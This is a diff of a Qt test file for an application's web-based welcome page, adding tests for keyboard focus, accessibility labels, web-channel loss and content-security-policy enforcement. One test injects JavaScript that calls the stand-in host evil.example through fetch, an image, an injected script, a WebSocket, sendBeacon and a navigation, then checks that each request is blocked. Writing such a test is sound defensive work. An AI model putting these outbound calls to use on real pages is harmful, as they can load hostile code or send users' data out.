@@ -18,6 +18,7 @@
 #include <QListWidget>
 #include <QTcpSocket>
 #include <QTranslator>
+#include <QWebChannel>
 #include <QWebEnginePage>
 #include <QWebEngineView>
 #include <QWebSocketServer>
@@ -221,6 +222,43 @@ private slots:
                     .toBool());
     }
 
+    void focusStaysOnTheProject()
+    {
+        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
+        js("document.querySelector('#recent li:nth-child(2) .open').focus()");
+        IRecentFilesManager::getInstance()->addFile("/p/later.kelpa");
+        emit m_pWindow->getMdiArea()->resetRecentFiles();
+        QTRY_COMPARE(names(), QStringList({"later", "a b", "b", "c"}));
+        QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
+        for (const Qt::KeyboardModifier modifier : {Qt::ControlModifier, Qt::AltModifier, Qt::MetaModifier})
+            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Delete, modifier);
+        press(Qt::Key_Down);
+        press(Qt::Key_Delete);
+        QTRY_VERIFY(!names().contains("c"));
+        QCOMPARE(names(), QStringList({"later", "a b", "b"}));
+        QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
+    }
+
+    void focusStaysWhenTheColoursChange_data()
+    {
+        QTest::addColumn<QString>("selector");
+        QTest::newRow("a button of a project") << "#recent li:nth-child(2) .small";
+        QTest::newRow("an example") << "#examples li:nth-child(2) button";
+        QTest::newRow("a link") << "nav a:nth-child(3)";
+    }
+
+    void focusStaysWhenTheColoursChange()
+    {
+        QFETCH(const QString, selector);
+        QTRY_COMPARE(js("document.querySelectorAll('nav a').length").toInt(), 5);
+        js("window.old = document.querySelector('" + selector + "'); old.focus()");
+        QPalette palette = m_pWidget->palette();
+        palette.setColor(QPalette::Window, QColor("#102030"));
+        m_pWidget->setPalette(palette);
+        QTRY_VERIFY(!js("old.isConnected").toBool());
+        QVERIFY(js("document.activeElement === document.querySelector('" + selector + "')").toBool());
+    }
+
     void everyControlHasANameAndEveryPartARole()
     {
         QCOMPARE(js("[...document.querySelectorAll('button, a')].filter(e => !(e.ariaLabel || "
@@ -235,6 +273,9 @@ private slots:
                     ".map(e => e.localName).join()"),
             "header,h1,p,main,footer");
         QVERIFY(js("document.querySelector('.small').ariaLabel").toString().contains("a b"));
+        QCOMPARE(js("[...document.querySelectorAll('.small:last-child')].slice(1).map(e => "
+                    "document.getElementById(e.getAttribute('aria-describedby')).textContent).join()"),
+            "/gone,/p");
     }
 
     void pageSpeaksTheLanguageOfTheProgram()
@@ -273,19 +314,20 @@ private slots:
         const QString strServer = WelcomePage::data(*m_pWidget).value("server").toString();
         QTRY_VERIFY(allowed(requests).contains(strServer));
         QTRY_COMPARE(names(), QStringList({"a b", "b", "c"}));
-        js("fetch('https://evil.example/fetch').catch(() => 0);"
+        js("window.refused = []; document.addEventListener('securitypolicyviolation', "
+           "event => refused.push(event.blockedURI));"
+           "fetch('https://evil.example/fetch').catch(() => 0);"
            "new Image().src = 'http://evil.example/image';"
            "document.body.append(Object.assign(document.createElement('script'), {src: "
            "'https://evil.example/script'}));"
-           "try { new WebSocket('ws://evil.example/') } catch (e) {}"
-           "navigator.sendBeacon('https://evil.example/beacon', 'x');"
-           "location = 'https://evil.example/go'; 0");
-        const auto isRefused = [&] {
-            return requests.contains(QVariantList {QUrl("https://evil.example/go"), false})
-                || view()->url() == WelcomePage::url();
-        };
-        QTRY_VERIFY(isRefused());
-        QCOMPARE(names().size(), 3);
+           "try { new WebSocket('ws://evil.example/socket') } catch (e) {}"
+           "navigator.sendBeacon('https://evil.example/beacon', 'x'); 0");
+        QTRY_COMPARE(
+            js("refused.map(url => url.split('/').pop()).sort().join()"), "beacon,fetch,image,script,socket");
+        const QSignalSpy loads(view()->page(), &QWebEnginePage::loadFinished);
+        js("location = 'https://evil.example/go'; 0");
+        QTRY_VERIFY(loads.contains(QVariantList {false}));
+        QTRY_COMPARE(names().size(), 3);
         const QStringList urls = allowed(requests);
         for (const QString &strUrl : urls)
             QVERIFY2(
@@ -306,6 +348,25 @@ private slots:
             "The page has lost the program and is trying to reach it again. "
             "The page has reached the program again.");
         QCOMPARE(js("document.querySelector('.action').getAttribute('aria-disabled')"), "false");
+    }
+
+    void programWithoutTheObjectIsLost()
+    {
+        QTRY_COMPARE(js("document.querySelectorAll('nav a').length").toInt(), 5);
+        QWebChannel *pChannel = m_pWindow->getChannel();
+        QObject *pObject = pChannel->registeredObjects().value("kpwelcome");
+        QVERIFY(pObject);
+        pChannel->deregisterObject(pObject);
+        for (QTcpSocket *pSocket : m_pWindow->getServer()->findChildren<QTcpSocket *>())
+            pSocket->abort();
+        const QString strEnabled = "document.querySelectorAll('button:not([aria-disabled=true]), "
+                                   "a:not([aria-disabled=true])').length";
+        QTRY_COMPARE(js(strEnabled).toInt(), 0);
+        QVERIFY(js("document.getElementById('status').textContent").toString().contains("lost"));
+        js("document.getElementById('status').textContent = ''");
+        QTRY_VERIFY(js("document.getElementById('status').textContent").toString().contains("lost"));
+        pChannel->registerObject("kpwelcome", pObject);
+        QTRY_VERIFY_WITH_TIMEOUT(js(strEnabled).toInt() > 0, 10000);
     }
 
     void lostPageSaysSoAndWaitsLongerEachTime()
